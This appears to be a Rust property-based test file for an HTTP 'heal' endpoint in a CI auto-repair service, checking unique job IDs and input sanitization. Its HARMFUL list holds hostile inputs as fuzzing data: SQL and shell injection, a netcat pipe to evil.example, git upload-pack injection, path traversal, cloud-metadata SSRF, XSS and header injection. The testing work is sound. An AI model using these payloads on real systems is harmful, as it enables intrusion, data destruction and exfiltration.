//! Guarantees of the specification for requests to heal over HTTP.

use std::cell::{Cell, RefCell};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use autoheal_engine::JobId;
use autoheal_engine::task::TaskState;
use autoheal_orchestrator::Registry;
use autoheal_repo::HealRequest;
use autoheal_repo::branch_name::create_branch_name;
use proptest::prelude::*;
use proptest::test_runner::{TestCaseError, TestRunner};
use reqwest::Method;
use serde_json::{Value, json};
use tokio::runtime::Runtime;

use crate::healing::Waiting;
use crate::http::{Running, ask, local, start_with};

/// `OWNER/NAME`, as GitHub names repositories.
fn repository() -> impl Strategy<Value = String> {
    let name = "[A-Za-z0-9_.-]{1,20}".prop_filter("it is a name, without an ending", |name| {
        !matches!(name.as_str(), "." | "..") && name.strip_suffix(".git").is_none()
    });
    ("[A-Za-z0-9][A-Za-z0-9-]{0,20}", name).prop_map(|(owner, name)| format!("{owner}/{name}"))
}

/// Of a team, or a leader.
fn name() -> impl Strategy<Value = String> {
    "[A-Za-z0-9][^\\p{C}\\p{Zl}\\p{Zp}]{0,40}"
}

async fn job(server: &Running, answer: &Value) -> autoheal_store::JobRow {
    let job: JobId = answer["jobId"].as_str().unwrap().parse().unwrap();
    server.store.job(job).await.unwrap().unwrap()
}

// Feature: autoheal-ci-agent, Property 26: API Job ID Response
#[test]
fn every_valid_request_is_answered_at_once_with_a_name_of_its_own() {
    let runtime = Runtime::new().unwrap();
    // Whoever healed before answering would not end: this one is never let on.
    let healing = Waiting::new();
    let entered = Arc::clone(&healing.entered);
    let (server, _) = runtime.block_on(start_with(local(), Registry::new().with(healing)));
    let (names, teams) = (RefCell::new(BTreeSet::new()), RefCell::new(BTreeMap::new()));
    let ending = prop::sample::select(vec!["", "/", ".git"]);
    let request = (repository(), ending, name(), name(), 1_usize..4);
    let asking = |(repository, ending, team, leader, times): (String, &str, String, String, usize)| {
        // For another team it would be a conflict as long as the first is not healed.
        let team = teams.borrow_mut().entry(repository.clone()).or_insert((team, leader)).clone();
        let asked = json!({
            "repositoryUrl": format!("https://github.com/{repository}{ending}"), "teamName": team.0, "leaderName": team.1,
        });
        runtime.block_on(async {
            let sent: Vec<_> =
                (0..times).map(|_| tokio::spawn(ask(server.send(Method::POST, "/api/heal", &asked)))).collect();
            let mut tasks = BTreeSet::new();
            for answered in sent {
                let (status, answer) = answered.await.unwrap();
                prop_assert_eq!((status, &answer["status"]), (200, &json!("queued")), "{}: {}", asked, answer);
                let name = answer["jobId"].as_str().unwrap().to_owned();
                prop_assert!(names.borrow_mut().insert(name.clone()), "{} was given twice", name);
                let job = job(&server, &answer).await;
                prop_assert_eq!(job.task.state, TaskState::Pending);
                tasks.insert(job.task.id);
                let (status, told) = ask(server.get(&format!("/api/status/{name}"))).await;
                prop_assert_eq!((status, told), (200, json!({ "jobId": name, "status": "queued" })));
            }
            prop_assert_eq!(tasks.len(), 1, "the same work, whoever asks");
            prop_assert_eq!(entered.available_permits(), 0, "nothing was begun");
            Ok(())
        })
    };
    TestRunner::new(ProptestConfig::with_cases(100)).run(&request, asking).unwrap();
    assert!(names.borrow().len() >= 100);
}

/// Malicious input, as clients may send it in any field.
const HARMFUL: [&str; 34] = [
    "",
    " ",
    "'; DROP TABLE task_queue; --",
    "' OR '1'='1",
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| nc evil.example 1",
    "--upload-pack=touch /tmp/x",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "/etc",
    "http://127.0.0.1/o/r",
    "http://169.254.169.254/latest/meta-data",
    "ext::sh -c id",
    "git@github.com:o/r.git",
    "ssh://git@github.com/o/r",
    "https://user:secret@github.com/o/r",
    "https://github.com@evil.example/o/r",
    "https://github.com.evil.example/o/r",
    "https://github.com/o/r?x=1#y",
    "https://github.com/o/--upload-pack=x",
    "https://github.com/-o/r",
    "https://github.com/o/..",
    "https://github.com/o/r/../../x/y",
    "https://github.com/o/%2e%2e",
    "https://github.com/\u{43e}/r",
    "<script>alert(1)</script>",
    "{{7*7}} ${7*7} %s%n",
    "team\r\nSet-Cookie: a=b",
    "\u{1b}[2J\u{7}",
    "\u{202e}txt.exe\u{2066}",
    "\0",
];

/// Any text: harmful, arbitrary, very long.
fn text() -> impl Strategy<Value = String> {
    let harmful = || prop::sample::select(HARMFUL.to_vec()).prop_map(str::to_owned);
    let long = ("[ -~]", 100_usize..6000).prop_map(|(character, times)| character.repeat(times));
    prop_oneof![3 => harmful(), 2 => any::<String>(), 1 => "\\PC{0,120}", 1 => long]
}

/// A text with another one somewhere in it.
fn with_text(inside: impl Strategy<Value = String>) -> impl Strategy<Value = String> {
    (inside, text(), any::<prop::sample::Index>()).prop_map(|(inside, text, place)| {
        let mut characters: Vec<char> = inside.chars().collect();
        let place = place.index(characters.len() + 1);
        characters.splice(place..place, text.chars());
        characters.into_iter().collect()
    })
}

fn is_safe_name(name: &str) -> bool {
    let is_unseen = |character: char| {
        // What Unicode calls Cc, and the marks that turn the direction of writing.
        character.is_control()
            || ('\u{202a}'..='\u{202e}').contains(&character)
            || ('\u{2066}'..='\u{2069}').contains(&character)
    };
    !name.is_empty() && name == name.trim() && name.chars().count() <= 100 && !name.chars().any(is_unseen)
}

fn is_safe_address(address: &str) -> bool {
    let is_safe = |part: &str| {
        let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte);
        !matches!(part, "" | "." | "..") && part.bytes().all(is_plain)
    };
    let parts = address.strip_prefix("https://github.com/").and_then(|rest| rest.split_once('/'));
    parts.is_some_and(|(owner, name)| is_safe(owner) && !owner.starts_with('-') && is_safe(name))
}

fn is_safe_branch(branch: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_';
    branch.strip_suffix("_AI_Fix").is_some_and(|rest| !rest.is_empty() && rest.bytes().all(is_plain))
}

// Feature: autoheal-ci-agent, Property 31: Input Sanitization
#[test]
fn whatever_is_written_is_refused_or_harmless() {
    let runtime = Runtime::new().unwrap();
    let (server, _) = runtime.block_on(start_with(local(), Registry::new()));
    let address = || repository().prop_map(|repository| format!("https://github.com/{repository}"));
    let addresses = prop_oneof![4 => address(), 1 => text(), 1 => with_text(address())];
    let names = || prop_oneof![3 => name(), 1 => text(), 1 => with_text(name())];
    let (accepted, refused) = (Cell::new(0), Cell::new(0));
    let asking = |(address, team, leader): (String, String, String)| {
        let asked = json!({ "repositoryUrl": address, "teamName": team, "leaderName": leader });
        runtime.block_on(async {
            let before = server.store.task_counts().await.unwrap();
            let (status, answer) = ask(server.send(Method::POST, "/api/heal", &asked)).await;
            if status == 400 {
                refused.set(refused.get() + 1);
                let error = &answer["error"];
                prop_assert_eq!(&error["code"], "INVALID_INPUT", "{}: {}", asked, answer);
                let field = error["details"]["field"].as_str().unwrap_or_default();
                prop_assert!(asked.get(field).is_some(), "{}: {}", asked, answer);
                prop_assert!(error["message"].as_str().is_some_and(is_told), "{}: {}", asked, answer);
                prop_assert!(error["timestamp"].is_string());
                prop_assert_eq!(server.store.task_counts().await.unwrap(), before);
                return Ok(());
            }
            prop_assert_eq!(status, 200, "{}: {}", asked, answer);
            accepted.set(accepted.get() + 1);
            let task = job(&server, &answer).await.task;
            let stored = serde_json::from_value::<HealRequest>(task.context)
                .map_err(|error| TestCaseError::fail(error.to_string()))?;
            prop_assert_eq!(&stored.repository, &task.target);
            prop_assert!(is_safe_address(&stored.repository), "{}", stored.repository);
            prop_assert!(is_safe_name(&stored.team_name) && is_safe_name(&stored.leader_name), "{:?}", stored);
            let branch = create_branch_name(&stored.team_name, &stored.leader_name).unwrap();
            prop_assert!(is_safe_branch(branch.as_str()), "{}", branch);
            // The next one may ask for the same repository for another team.
            prop_assert!(server.store.request_cancel(task.id).await.unwrap());
            Ok(())
        })
    };
    TestRunner::new(ProptestConfig::with_cases(400)).run(&(addresses, names(), names()), asking).unwrap();
    assert!(accepted.get() > 20 && refused.get() > 20, "{} accepted, {} refused", accepted.get(), refused.get());
}

/// Returns whether a message can be displayed as it is.
fn is_told(message: &str) -> bool {
    !message.is_empty() && message.len() < 500 && !message.contains(char::is_control)
}
